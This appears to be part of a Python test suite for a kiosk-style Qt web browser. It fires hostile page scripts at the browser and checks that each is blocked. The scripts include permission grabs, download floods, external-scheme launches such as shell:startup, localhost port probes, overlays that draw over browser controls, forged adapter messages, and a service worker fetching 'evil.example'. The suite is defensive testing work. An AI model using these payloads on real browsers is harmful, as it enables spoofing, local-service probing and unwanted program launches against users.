    midi: () => navigator.requestMIDIAccess({sysex: true}), serial: () => navigator.serial.requestPort(),
    hid: async () => { if (!(await navigator.hid.requestDevice({filters: []})).length) throw 1 },
    usb: () => navigator.usb.requestDevice({filters: []}), bluetooth: () => navigator.bluetooth.requestDevice({acceptAllDevices: true}),
    fonts: async () => { if (!(await queryLocalFonts()).length) throw 1 }, screens: () => getScreenDetails(), idle: async () => { if (await IdleDetector.requestPermission() !== "granted") throw 1 },
    persist: async () => { if (!await navigator.storage.persist()) throw 1 }, storage: () => document.requestStorageAccess().then(() => { throw 1 }),
    wake: () => navigator.wakeLock.request(), sensor: () => new Promise((ok, no) => { const s = new Accelerometer(); s.onreading = ok; s.onerror = no; s.start(); setTimeout(no, 500) }),
    passkey: () => navigator.credentials.get({publicKey: {challenge: new Uint8Array(8)}}), create: () => navigator.credentials.create({publicKey: {rp: {name: "x"}, user: {id: new Uint8Array(8), name: "x", displayName: "x"}, challenge: new Uint8Array(8), pubKeyCredParams: []}}),
    payment: () => new PaymentRequest([{supportedMethods: "https://evil.example/pay"}], {total: {label: "x", amount: {currency: "KRW", value: "1"}}}).show(),
    handler: async () => { navigator.registerProtocolHandler("mailto", "/x?%s"); throw 1 }, share: () => navigator.share({url: "/"}), keyboard: () => navigator.keyboard.lock(),
  }
  const got = []
  const f = document.createElement("iframe"); document.body.append(f)
  await Promise.all(Object.entries(tries).map(async ([name, ask]) => {
    try { await Promise.race([ask(), new Promise((_, no) => setTimeout(no, 1200))]); got.push(name) } catch { }
  }))
  window.r = "got:" + got.join()
})()
"""


@attempt("G49", "permissions: camera, microphone, place, devices, clipboard, fonts, screen")
def permissions(stage: Stage) -> str:
    stage.fresh()
    stage.put(f"<button onclick='{PERMISSIONS.replace(chr(39), '&#39;')}'>x</button>")
    stage.click()
    found = stage.rig.wait_until(lambda: stage.rig.run("window.r"), 6)
    return stage.trouble() or ("" if found == "got:" else str(found))


@attempt("G50", "passkeys, payments and protocol handlers, as G49 asks for them")
def passkeys(stage: Stage) -> str:
    return permissions(stage)


def _opens_nothing(stage: Stage, html: str, *, inside: bool) -> str:
    stage.fresh()
    stage.put(html)
    stage.rig.wait(0.1)
    stage.click()
    stage.rig.wait(0.4)
    found = "" if stage.windows == 1 else f"{stage.windows} windows"
    if inside:
        stage.rig.host.carry_out(ClosePage())
        stage.rig.wait(0.2)
        found = found or ("" if stage.windows == 1 and stage.rig.host.is_gone else "stays after the visit")
    return found


each("G51", "pop-ups of fields", {
    "drop-down list": "<select><option>a<option>b<option>c</select>",
    "date": "<input type=date>", "time": "<input type=time>", "month": "<input type=month>", "week": "<input type=week>",
    "suggestions": "<input list=l><datalist id=l><option>aa<option>ab</datalist>",
    "showPicker": "<button onclick=\"for (const t of ['date','time','color','file','month']) {let i=document.createElement('input');i.type=t;document.body.append(i);try{i.showPicker()}catch{}};let s=document.createElement('select');s.innerHTML='<option>a';document.body.append(s);try{s.showPicker()}catch{}\">x</button>",
}, lambda stage, html: _opens_nothing(stage, html, inside=True))  # fmt: skip

# -- H: files, PDF, print -----------------------------------------------------------------------------------

each("H52", "downloads", {
    "link": "<a href=/file.bin>x</a>", "download attribute": "<a href=/second download=x.txt>x</a>",
    "blob": "<a id=b download=x.txt>x</a><script>document.querySelector('#b').href=URL.createObjectURL(new Blob(['x']))</script>",
    "data": "<a download=x.txt href='data:text/plain,x'>x</a>", "disposition": "<a href=/attached>x</a>",
    "program": "<a href=/setup.exe>x</a>",
}, lambda stage, html: _download(stage, html))  # fmt: skip


def _download(stage: Stage, html: str) -> str:
    found = by_click(stage, html)
    kept = [
        path.name
        for path in Path.home().rglob("*")
        if path.suffix in (".bin", ".txt", ".exe", ".pdf", ".crdownload") and ".pki" not in path.parts
    ]
    return found or (
        f"left: {kept}"
        if kept
        else ""
        if stage.asked("download") or stage.heard(PageRefused)
        else "nothing was told"
    )


@attempt("H52", "downloads without end and without a touch")
def download_storm(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        "setInterval(() => { const a = document.createElement('a'); a.href = '/file.bin'; a.download = 'x.bin'; a.click() }, 10)"
    )
    stage.rig.wait(1.0)
    asked = len(stage.heard(DialogAsked))
    return stage.trouble() or ("" if asked <= 3 else f"{asked} notices")


@attempt("H53", "a PDF")
def pdf(stage: Stage) -> str:
    return by_click(stage, "<a href=/paper.pdf>x</a>") or by_html(stage, "<iframe src=/paper.pdf></iframe>")


@attempt("H54", "printing by script and by key")
def printing(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run("window.print(); document.execCommand('print')")
    stage.key(Key.Key_P, Modifier.ControlModifier)
    stage.key(Key.Key_P, Modifier.ControlModifier, Modifier.ShiftModifier)
    stage.rig.wait(0.4)
    return stage.trouble() or ("" if stage.asked("print") else "nothing was told")


@attempt("H56", "save page, view source")
def save_page(stage: Stage) -> str:
    stage.fresh()
    for letter in ["S", "U"]:
        stage.key(getattr(Key, f"Key_{letter}"), Modifier.ControlModifier)
    stage.rig.run("document.execCommand('SaveAs'); location.href = 'view-source:' + location.href")
    stage.rig.wait(0.3)
    return stage.trouble()


# -- I: programs outside --------------------------------------------------------------------------------------

OUTSIDE = (
    "mailto:a@b.c", "tel:120", "sms:120", "ms-settings:", "ms-store:x", "search-ms:query=x", "shell:startup", "calculator:",
    "vscode://x", "zoommtg://x", "kakaotalk://x", "intent://x#Intent;end", "microsoft-edge:https://evil.example/", "steam://x", "ssh://x", "magnet:?xt=x",
)  # fmt: skip
each("I57", "another program", {text: text for text in OUTSIDE},
     lambda stage, text: by_click(stage, f"<a href='{text}'>x</a>")
     or by_script(stage, in_every_way(text)))  # fmt: skip
each("I58", "plug-in loaders of Korean pages", {
    "socket of this machine": "for (const p of [14430, 14440, 16105, 31026, 45100]) { try { new WebSocket('wss://127.0.0.1:' + p + '/') } catch { }; fetch('https://localhost:' + p + '/', {mode: 'no-cors'}).catch(() => 0) }",
    "name that leads here": "try { new WebSocket('wss://lx.astxsvc.com:55920/') } catch { }; fetch('https://local.example:14430/', {mode: 'no-cors'}).catch(() => 0)",
    "scheme": "location.href = 'nprotect://start'; document.body.insertAdjacentHTML('beforeend', '<object classid=clsid:x></object><embed type=application/x-npapi>')",
}, by_script)  # fmt: skip
each("I59", "a scheme of our own", {
    "modunuri": "location.href = 'modunuri://home'; fetch('modunuri://home').catch(() => 0)",
    "kiosk": "location.href = 'kiosk://app/'; fetch('kiosk://app/').catch(() => 0)",
    "channel": "window.r = typeof qt + typeof QWebChannel + typeof modunuriConfig; if (window.r !== 'undefinedundefinedundefined') location.href = '/second'",
}, by_script)  # fmt: skip

# -- J: pages that trick ----------------------------------------------------------------------------------------


@attempt("J60", "a page that draws over our own controls")
def spoof(stage: Stage) -> str:
    stage.rig.place.setY(200)
    try:
        stage.fresh()
        before = stage.rig.window.window.grabWindow()
        stage.rig.run(
            "document.body.innerHTML += '<div style=\"position:fixed;inset:-500px;background:#0f0;z-index:2147483647\"></div>'; scrollTo(0, 500)"
        )
        stage.rig.wait(0.4)
        after = stage.rig.window.window.grabWindow()
    finally:
        stage.rig.place.setY(0)
    above = [(x, y) for x in range(0, 1000, 20) for y in range(0, 195, 15)]
    touched = sum(before.pixelColor(x, y) != after.pixelColor(x, y) for x, y in above)
    is_drawn = after.pixelColor(500, 600).green() > 200
    return "" if not touched and is_drawn else f"{touched} points above the page changed"


@attempt("J61", "a history that has no end")
def flooded_history(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        "for (let i = 0; i < 300; i++) { try { history.pushState(i, '', '/?' + i) } catch { } }; onpopstate = () => history.forward()"
    )
    stage.rig.wait(0.3)
    start = time.perf_counter()
    stage.rig.host.carry_out(ClosePage())
    return "" if stage.rig.host.is_gone and time.perf_counter() - start < 1 else "the page holds on"


@attempt("J62", "sound goes with the page")
def sound(stage: Stage) -> str:
    stage.fresh()
    stage.put(
        '<button onclick="const c=new AudioContext();const o=c.createOscillator();o.connect(c.destination);o.start()">x</button>'
    )
    stage.click()
    pids = {stage.rig.host.process}
    stage.rig.host.carry_out(ClosePage())
    from ui.web.processes import is_alive

    return (
        ""
        if not any(is_alive(pid) for pid in pids) and stage.rig.run("1", patience=0.2) is TimeoutError
        else "still there"
    )


@attempt("J63", "a page cannot scroll or push its own frame")
def scrolled(stage: Stage) -> str:
    stage.fresh()
    before = (stage.rig.place.x(), stage.rig.place.y(), stage.rig.place.width())
    stage.rig.run(
        "scrollTo(0, 2000); document.documentElement.requestFullscreen?.(); window.resizeTo(5000, 5000); window.moveTo(-500, -500)"
    )
    stage.rig.wait(0.3)
    return stage.trouble() or (
        "" if before == (stage.rig.place.x(), stage.rig.place.y(), stage.rig.place.width()) else "moved"
    )


# -- L, M ---------------------------------------------------------------------------------------------------------


@attempt("L65", "a scanner that types Ctrl+O, Ctrl+N and an address")
def wedge(stage: Stage) -> str:
    stage.fresh()
    for _ in range(5):
        for letter in "ONLTP":
            stage.key(getattr(Key, f"Key_{letter}"), Modifier.ControlModifier)
            stage.key(getattr(Key, f"Key_{letter}"), Modifier.AltModifier)
            stage.key(getattr(Key, f"Key_{letter}"), Modifier.MetaModifier)
        for letter in "http://evil.example/":
            QTest.keyClick(stage.rig.window.window, letter)
        stage.key(Key.Key_Return)
    stage.rig.wait(0.3)
    return stage.trouble()


@attempt("L65", "a QR code with a forbidden address")
def qr_code(stage: Stage) -> str:
    return _entry(stage, "http://evil.example/?city.example")


@attempt("L66", "ten fingers, a palm, and a double tap")
def fingers(stage: Stage) -> str:
    stage.fresh()
    window, device = stage.rig.window.window, _touch_device()
    before = _zoom(stage)
    press = QTest.touchEvent(window, device)
    for finger in range(10):
        press.press(finger, QPoint(60 + 70 * finger, 500), window)
    press.commit()
    stage.rig.wait(0.2)
    release = QTest.touchEvent(window, device)
    for finger in range(10):
        release.release(finger, QPoint(60 + 70 * finger, 500), window)
    release.commit()
    for _ in range(4):
        QTest.touchEvent(window, device).press(1, SLOT, window).commit()
        QTest.touchEvent(window, device).release(1, SLOT, window).commit()
    stage.rig.wait(0.3)
    return stage.trouble() or ("" if _zoom(stage) == before else f"{before} -> {_zoom(stage)}")


@attempt("M68", "a page talks to ports of this machine")
def local_ports(stage: Stage) -> str:
    stage.fresh()
    for target in (
        f"http://127.0.0.1:{stage.evil.port}/",
        f"http://localhost:{stage.evil.port}/",
        f"http://[::1]:{stage.evil.port}/",
    ):
        stage.rig.run("(() => {" + silent(target, is_fenced=stage.is_fenced) + "})()")
    stage.rig.wait(0.4)
    return stage.trouble()


@attempt("M68", "a page speaks in the adapter's name")
def forged_messages(stage: Stage) -> str:
    stage.fresh()
    stage.rig.run(
        """for (const m of [{kind: "snapshot", number: 1, address: "http://evil.example/", title: "forged", nodes: []}, "x"]) {
      postMessage(m, "*"); postMessage(JSON.stringify(m), "*"); new BroadcastChannel("kiosk").postMessage(m)
      const c = new MessageChannel(); postMessage(m, "*", [c.port2]); dispatchEvent(new CustomEvent("kiosk", {detail: m}))
      try { qt.webChannelTransport.send(JSON.stringify(m)) } catch { } }"""
    )
    stage.rig.wait(0.3)
    forged = [e for e in stage.rig.events if getattr(getattr(e, "snapshot", None), "title", "") == "forged"]
    return stage.trouble() or ("a forged document was believed" if forged else "")


# -- the city, good and bad --------------------------------------------------------------------------------------


def make_city(city: Server) -> None:
    city.pages["/"] = START
    city.pages["/second"] = "<!doctype html><title>둘</title><h1>둘</h1>"
    for path, to in (("/hop1", "/hop2"), ("/hop2", "/hop3"), ("/hop3", EVIL)):
        city.pages[path] = (302, {"Location": to}, b"")
    city.pages["/hop307"] = (307, {"Location": EVIL}, b"")
    city.pages["/refresh"] = (200, {"Refresh": f"0;url={EVIL}", "Content-Type": "text/html"}, b"<h1>r</h1>")

    def go(handler: Any) -> Any:
        from urllib.parse import parse_qs, urlsplit

        return 302, {"Location": parse_qs(urlsplit(handler.path).query)["url"][0]}, b""

    city.pages["/go"] = go
    city.pages["/auth"] = (401, {"WWW-Authenticate": 'Basic realm="city"'}, b"who?")
    city.pages["/file.bin"] = (200, {"Content-Type": "application/octet-stream"}, b"x" * 2000)
    city.pages["/setup.exe"] = (200, {"Content-Type": "application/x-msdownload"}, b"MZ" * 500)
    city.pages["/paper.pdf"] = (200, {"Content-Type": "application/pdf"}, b"%PDF-1.4\n%%EOF")
    city.pages["/attached"] = (
        200,
        {"Content-Type": "text/html", "Content-Disposition": "attachment; filename=x.txt"},
        b"<h1>x</h1>",
    )
    city.pages["/worker.js"] = (
        200,
        {"Content-Type": "text/javascript"},
        b"self.onfetch = e => e.respondWith(fetch('http://evil.example/'))",
    )


def main(wanted: list[str]) -> None:
    authority = Authority(Path(tempfile.mkdtemp()))
    city = Server("city", authority.context("city.example", "*.city.example"))
    forged = Server("forged", Authority(Path(tempfile.mkdtemp())).context("forged.example"))
    evil = Server("evil")
    evil.pages["*"] = "<title>evil</title><h2>evil</h2>"
    make_city(city)
    pages = (
        Allowance("https://city.example"), Allowance("https://www.city.example"), Allowance("https://forged.example"),
        Allowance("https://secure.example"),
    )  # fmt: skip
    is_fenced, is_quick, has_table = ("--" + each in wanted for each in ("fenced", "quick", "table"))
    servers = {"city.example:443": city, "forged.example:443": forged}
    rig = Rig(
        servers if is_fenced else {**servers, "*": evil},
        has_fence=is_fenced,
        sites=[City(pages=pages, allows_http=False, frames=(), resources=(), sockets=())],
        authorities=[authority.file],
    )
    stage = Stage(rig, city, evil, Datagrams(), is_fenced)
    wanted = list(FENCED) if is_fenced else [each for each in wanted if not each.startswith("--")]
    handler = _Handler(stage.outside)
    for scheme in {text.partition(":")[0] for text in (*OUTSIDE, *SCHEMES)} | {
        "http",
        "https",
        "nprotect",
        "kiosk",
        "modunuri",
    }:
        QDesktopServices.setUrlHandler(scheme, handler, "take")
    answers: list[dict[str, Any]] = []
    kinds: set[tuple[str, str]] = set()
    for number, (id_, name, function) in enumerate(ATTEMPTS):
        if (wanted and id_ not in wanted) or (name.startswith("WebRTC") and not is_fenced):
            continue
        kind = (id_, name.partition(":")[0])
        if is_quick and kind in kinds:
            continue
        kinds.add(kind)
        try:
            note = function(stage)
        except Exception as error:
            note = f"the attempt failed: {error!r} {traceback.format_exc()[-400:]}"
        answers.append({"id": id_, "name": name, "is_blocked": not note, "note": note})
        if note:
            print(number, id_, name, "->", note, file=sys.stderr, flush=True)
    if has_table:
        print_table(answers)
    tell({"attempts": answers, "counts": dict(rig.host.counts), "problems": rig.window.problems})


def print_table(answers: list[dict[str, Any]]) -> None:
    """Print how many were tried, blocked and open, by class."""
    print(f"{'class':8}{'tried':>7}{'blocked':>9}{'open':>6}")
    for letter in sorted({each["id"][0] for each in answers}):
        of_class = [each for each in answers if each["id"][0] == letter]
        blocked = sum(each["is_blocked"] for each in of_class)
        print(f"{letter:8}{len(of_class):>7}{blocked:>9}{len(of_class) - blocked:>6}")


from PySide6.QtCore import QObject, Slot  # noqa: E402


class _Handler(QObject):
    """Stands in for the system's openers."""

    def __init__(self, opened: list[str]) -> None:
        super().__init__()
        self._opened = opened

    @Slot(QUrl)
    def take(self, address: QUrl) -> None:
        self._opened.append(address.toString())


if __name__ == "__main__":
    main(sys.argv[1:])
